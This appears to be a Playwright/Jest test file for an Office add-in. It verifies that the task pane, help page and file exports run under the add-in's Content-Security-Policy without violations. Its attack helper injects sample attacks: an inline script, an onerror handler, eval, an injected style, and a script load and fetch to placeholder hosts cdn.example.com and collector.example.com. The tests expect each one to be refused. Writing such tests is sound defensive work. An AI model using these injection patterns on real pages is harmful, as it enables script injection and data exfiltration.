// The production task pane and help page under their own Content-Security-Policy, in headless
// Chromium with the policy enforced. office.js is answered from node_modules at its real address on
// Microsoft's CDN, so the policy under test is the one the build ships, not a local variant.
import type { BrowserContext, Page } from "playwright-core";
import { openTaskpane } from "./support/browser";
import { showTab } from "./support/page";
import { browserSuite } from "./support/suite";

jest.setTimeout(60_000);

const TABS = ["Results", "Scenarios", "ROI", "Team & history", "Roadmap", "Assessment"];
/** office.js's logger frame, which it adds to <head> three seconds after it starts (outside Office). */
const OFFICE_TELEMETRY_FRAME = "https://telemetryservice.firstpartyapps.oaspapps.com/";

interface Violation {
  page: string;
  directive: string;
  blocked: string;
  sample: string;
  source: string;
}

const suite = browserSuite({ enforceCsp: true });
let page: Page;
const violations: Violation[] = [];
/** Console messages of any page that mention the policy (Chromium logs every refusal there). */
const consoleReports: string[] = [];
/** Uncaught errors of any page of the context, the help page opened from the pane among them. */
const pageErrors: string[] = [];

/** Reports every securitypolicyviolation event of every page of the context, from its first script on. */
async function listenForViolations(context: BrowserContext): Promise<void> {
  await context.exposeFunction("__agapCspViolation", (violation: Violation) => violations.push(violation));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const report = (window as unknown as { __agapCspViolation: (v: unknown) => void }).__agapCspViolation;
      report({
        page: location.pathname,
        directive: event.violatedDirective,
        blocked: event.blockedURI,
        sample: event.sample,
        source: `${event.sourceFile}:${event.lineNumber}`,
      });
    });
  });
  const watch = (target: Page) => {
    target.on("console", (message) => {
      if (/Content Security Policy/i.test(message.text())) consoleReports.push(message.text());
    });
    target.on("pageerror", (error) => pageErrors.push(error.message));
  };
  context.pages().forEach(watch);
  context.on("page", watch);
}

beforeAll(async () => {
  ({ page } = suite);
  await listenForViolations(suite.session.context);
});

/** The policy the page was served with, read from the page itself. */
function policyOf(target: Page): Promise<string | null> {
  return target.evaluate(
    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? null,
  );
}

test("the pane, every tab and the help page run without a single violation of their policies", async () => {
  await openTaskpane(page, suite.server.url);
  const policy = await policyOf(page);
  expect(policy).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
  for (const name of TABS) await showTab(page, name);

  // office.js's logger adds its hidden frame (with style="display:none") to <head> after three
  // seconds: wait for it, so that what the policy allows for it is exercised, not raced.
  await page.locator(`head > iframe[src^="${OFFICE_TELEMETRY_FRAME}"]`).waitFor({ state: "attached" });
  // The policy let the frame load: the request was made (and, offline, refused by the test's router).
  expect(suite.session.requests.filter((r) => r.url.startsWith(OFFICE_TELEMETRY_FRAME)).map((r) => r.handling)).toEqual(
    ["aborted"],
  );
  // Fluent's theme is in place: its <style> element (allowed by the empty hash) holds the theme rule.
  const theme = await page.evaluate(() =>
    [...document.querySelectorAll("head style")].map((style) => ({
      id: style.id,
      text: style.textContent,
      rules: (style as HTMLStyleElement).sheet?.cssRules.length ?? -1,
    })),
  );
  expect(theme).toEqual([{ id: expect.stringMatching(/^fui-FluentProvider/), text: "", rules: 1 }]);

  // The help page opens from the pane's link, in a window of its own.
  const [help] = await Promise.all([
    suite.session.context.waitForEvent("page"),
    page.getByRole("link", { name: "Function reference" }).click(),
  ]);
  await help.getByRole("heading", { level: 1, name: "AGAP function reference" }).waitFor();
  await expect(policyOf(help)).resolves.toMatch(/^default-src 'none'; style-src 'self';/);
  // Its style sheet applied (code blocks scroll in their own box).
  await expect(
    help
      .locator("pre")
      .first()
      .evaluate((pre) => getComputedStyle(pre).overflowX),
  ).resolves.toBe("auto");
  await help.close();

  expect(violations).toEqual([]);
  expect(consoleReports).toEqual([]);
  expect(pageErrors).toEqual([]);
});

test("a saved response exports as .xlsx, CSV and JSON (exceljs and the export code) without a violation", async () => {
  violations.length = 0;
  consoleReports.length = 0;
  await showTab(page, "Assessment");
  await page.getByRole("combobox", { name: "Workflow" }).fill("Invoice triage");
  await page.getByLabel("Respondent (optional)").fill("Ana");
  const groups = page.getByRole("radiogroup");
  for (let i = 0; i < 15; i++) await groups.nth(i).getByRole("radio", { name: "3", exact: true }).check();
  await page.getByRole("button", { name: "Save response" }).click();
  await page.getByText("Saved Ana's response for Invoice triage.").waitFor();
  await showTab(page, "Team & history");
  for (const [button, file] of [
    ["Export .xlsx", /\.xlsx$/],
    ["Export CSV", /\.csv$/],
    ["Export JSON", /\.json$/],
  ] as const) {
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: button }).click(),
    ]);
    expect(await download.failure()).toBeNull();
    expect(download.suggestedFilename()).toMatch(file);
  }
  expect(violations).toEqual([]);
  expect(consoleReports).toEqual([]);
  expect(pageErrors).toEqual([]);
});

/**
 * Runs an attack in the page and waits there for the given number of securitypolicyviolation
 * events, which the browser dispatches after the refused action; returns what the attack saw and
 * each refusal as [directive, blocked URI].
 */
function attack<T>(attempt: string, refusals: number): Promise<{ outcome: T; refused: string[][] }> {
  return page.evaluate(
    async ({ attempt, refusals }) => {
      const refused: string[][] = [];
      const reported = new Promise<void>((resolve) => {
        const listen = (event: SecurityPolicyViolationEvent) => {
          refused.push([event.violatedDirective, event.blockedURI]);
          if (refused.length === refusals) {
            document.removeEventListener("securitypolicyviolation", listen);
            resolve();
          }
        };
        document.addEventListener("securitypolicyviolation", listen);
      });
      const attacks: Record<string, () => Promise<unknown>> = {
        async inlineScript() {
          const script = document.createElement("script");
          script.textContent = "window.__ran = 1;";
          document.body.append(script);
          // An inline event handler, which would fire when the missing image fails to load.
          const holder = document.createElement("div");
          holder.innerHTML = '<img src="missing.png" alt="" onerror="window.__ranHandler = 1">';
          const img = holder.querySelector("img") as HTMLImageElement;
          const failed = new Promise((done) => img.addEventListener("error", done));
          document.body.append(holder);
          await failed;
          const w = window as unknown as { __ran?: number; __ranHandler?: number };
          return { script: w.__ran ?? null, handler: w.__ranHandler ?? null };
        },
        async eval() {
          // Out of the debugger's evaluation first: code that the test driver runs directly may
          // eval (the DevTools protocol allows it), code that the page runs later may not.
          await new Promise((next) => setTimeout(next, 0));
          const run = (code: () => unknown) => {
            try {
              return `ran: ${String(code())}`;
            } catch (error) {
              return (error as Error).name;
            }
          };
          // The attack under test: code from a string, which the policy must refuse.
          // eslint-disable-next-line no-eval, no-restricted-syntax
          return { eval: run(() => (0, eval)("1 + 1")), function: run(() => new Function("return 2")()) };
        },
        async inlineStyle() {
          const style = document.createElement("style");
          style.textContent = "#root { display: none; }";
          document.head.append(style);
          return getComputedStyle(document.getElementById("root") as HTMLElement).display;
        },
        outsideScript() {
          return new Promise<string>((done) => {
            const script = document.createElement("script");
            script.src = "https://cdn.example.com/x.js";
            script.onload = () => done("loaded");
            script.onerror = () => done("error");
            document.head.append(script);
          });
        },
        outsideFetch() {
          return fetch("https://collector.example.com/").then(
            () => "fetched",
            (error: Error) => error.name,
          );
        },
      };
      const outcome = await attacks[attempt]();
      await reported;
      return { outcome, refused };
    },
    { attempt, refusals },
  ) as Promise<{ outcome: T; refused: string[][] }>;
}

describe("the pane's policy refuses what we do not ship", () => {
  test("an injected inline script and an inline event handler do not run, and are reported", async () => {
    await expect(attack("inlineScript", 2)).resolves.toEqual({
      outcome: { script: null, handler: null },
      refused: [
        ["script-src-elem", "inline"],
        ["script-src-attr", "inline"],
      ],
    });
  });

  test("eval and new Function throw, and are reported", async () => {
    // One report for the task: the listener stops at the first (both attempts throw all the same).
    await expect(attack("eval", 1)).resolves.toEqual({
      outcome: { eval: "EvalError", function: "EvalError" },
      refused: [["script-src", "eval"]],
    });
  });

  test("an injected <style> with rules is refused (only an empty one, as Fluent adds, is allowed)", async () => {
    await expect(attack("inlineStyle", 1)).resolves.toEqual({
      outcome: "block",
      refused: [["style-src-elem", "inline"]],
    });
  });

  test("a script from another host is refused by the policy, before it reaches the network", async () => {
    const [failed, result] = await Promise.all([
      page.waitForEvent("requestfailed", (request) => request.url().startsWith("https://cdn.example.com/")),
      attack("outsideScript", 1),
    ]);
    expect(result).toEqual({ outcome: "error", refused: [["script-src-elem", "https://cdn.example.com/x.js"]] });
    // Refused by the browser for the policy ("csp"), not by the test's offline router.
    expect(failed.failure()?.errorText).toBe("csp");
  });

  test("a connection to another host is refused before any request is made", async () => {
    const before = suite.session.requests.length;
    await expect(attack("outsideFetch", 1)).resolves.toEqual({
      outcome: "TypeError",
      refused: [["connect-src", "https://collector.example.com/"]],
    });
    expect(suite.session.requests.slice(before).filter((r) => r.url.includes("example.com"))).toEqual([]);
  });
});
